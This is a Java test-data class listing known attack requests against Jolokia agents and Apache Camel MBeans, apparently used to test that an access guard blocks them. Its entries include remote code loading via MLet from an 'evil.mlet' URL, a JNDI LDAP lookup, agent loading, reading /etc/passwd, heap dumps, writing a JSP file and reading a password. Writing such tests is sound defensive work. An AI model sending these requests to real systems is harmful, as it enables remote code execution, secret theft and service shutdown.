package io.hcpnbridge.operate;

import static io.hcpnbridge.operate.JolokiaRequest.CONTEXT;
import static io.hcpnbridge.operate.JolokiaRequest.HOTSPOT;
import static io.hcpnbridge.operate.JolokiaRequest.ROUTE;
import static io.hcpnbridge.operate.JolokiaRequest.escaped;
import static io.hcpnbridge.operate.JolokiaRequest.exec;
import static io.hcpnbridge.operate.JolokiaRequest.read;
import static io.hcpnbridge.operate.JolokiaRequest.write;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

/** What has been done to open Jolokia agents and Camel contexts elsewhere; the first twelve hit MBeans that are here. */
final class KnownAttacks {
    private static final String TRACER = "org.apache.camel:context=hcpn-erp-bridge,type=tracer,name=BacklogTracer";
    private static final String COMMAND = "com.sun.management:type=DiagnosticCommand";

    private KnownAttacks() {}

    static Stream<Arguments> all() {
        return Stream.of(
                arguments("send a body to an endpoint", exec(CONTEXT, "sendBody", "direct:weigh-parcel", "1")),
                arguments(
                        "send text to an endpoint",
                        exec(CONTEXT, "sendStringBody(java.lang.String,java.lang.String)", "direct:weigh-parcel", "1")),
                arguments(
                        "request through an endpoint",
                        exec(CONTEXT, "requestBody(java.lang.String,java.lang.Object)", "direct:weigh-parcel", "1")),
                arguments("create an endpoint", exec(CONTEXT, "createEndpoint(java.lang.String)", "exec:id")),
                arguments("stop everything", exec(CONTEXT, "stop()")),
                arguments("suspend everything", exec(CONTEXT, "suspend()")),
                arguments("restart everything", exec(CONTEXT, "restart()")),
                arguments("add routes", exec(CONTEXT, "addOrUpdateRoutesFromXml(java.lang.String)", "<routes/>")),
                arguments("resolve placeholders in routes", exec(CONTEXT, "dumpRoutesAsXml(boolean)", "true")),
                arguments("update a route", exec(ROUTE, "updateRouteFromXml(java.lang.String)", "<route/>")),
                arguments("remove a route", exec(ROUTE, "remove()")),
                arguments("change the tracing of a context", write(CONTEXT, "Tracing", "true")),
                arguments("switch message tracing on", write(TRACER, "Enabled", "true")),
                arguments("read traced messages", exec(TRACER, "dumpAllTracedMessagesAsXml()")),
                arguments("read whether messages are traced", read(TRACER, "Enabled")),
                arguments(
                        "load code (MLet)",
                        exec(
                                "JMImplementation:type=MBeanServerDelegate",
                                "getMBeansFromURL",
                                "http://127.0.0.1/evil.mlet")),
                arguments(
                        "look up by JNDI (Tomcat)",
                        exec("Tomcat:type=MBeanFactory", "createJNDIRealm", "ldap://127.0.0.1/evil")),
                arguments(
                        "write a log file by Tomcat's access log",
                        exec("Tomcat:type=MBeanFactory", "createAccessLoggerValve", "Catalina:type=Engine")),
                arguments("dump the heap", exec(HOTSPOT, "dumpHeap(java.lang.String,boolean)", "heap.hprof", "true")),
                arguments(
                        "set a VM option",
                        exec(HOTSPOT, "setVMOption(java.lang.String,java.lang.String)", "HeapDumpPath", "x")),
                arguments("load an agent", exec(COMMAND, "jvmtiAgentLoad([Ljava.lang.String;)", "evil.so")),
                arguments("read the compiler's files", exec(COMMAND, "compilerDirectivesAdd", "/etc/passwd")),
                arguments("list system properties by command", exec(COMMAND, "vmSystemProperties()")),
                arguments("start a flight recording", exec("jdk.management.jfr:type=FlightRecorder", "newRecording()")),
                arguments(
                        "copy a flight recording",
                        exec("jdk.management.jfr:type=FlightRecorder", "copyTo(long,java.lang.String)", "1", "x.jsp")),
                arguments(
                        "change a log level",
                        exec(
                                "java.util.logging:type=Logging",
                                "setLoggerLevel(java.lang.String,java.lang.String)",
                                "",
                                "ALL")),
                arguments(
                        "load a logging configuration", exec("hawtio:type=LogbackLogging", "getLogResults(int)", "9")),
                arguments("read system properties", read("java.lang:type=Runtime", "SystemProperties")),
                arguments("read the command line", read("java.lang:type=Runtime", "InputArguments")),
                arguments("collect garbage", exec("java.lang:type=Memory", "gc()")),
                arguments("make memory verbose", write("java.lang:type=Memory", "Verbose", "true")),
                arguments(
                        "set a memory threshold",
                        write("java.lang:type=MemoryPool,name=Metaspace", "UsageThreshold", "1")),
                arguments("read all of another domain", read("Tomcat:*")),
                arguments("search agents in the network", exec("jolokia:type=Discovery", "lookupAgents()")),
                arguments("switch Jolokia's debugging on", exec("jolokia:type=Config", "setDebug", "true")),
                arguments("read a bean of the application", read("spring@spring:name=operatorProperties", "password")),
                arguments(
                        "listen to notifications",
                        "{'type':'notification','command':'add','mode':'pull','client':'1','mbean':'" + escaped(CONTEXT)
                                + "'}"));
    }
}
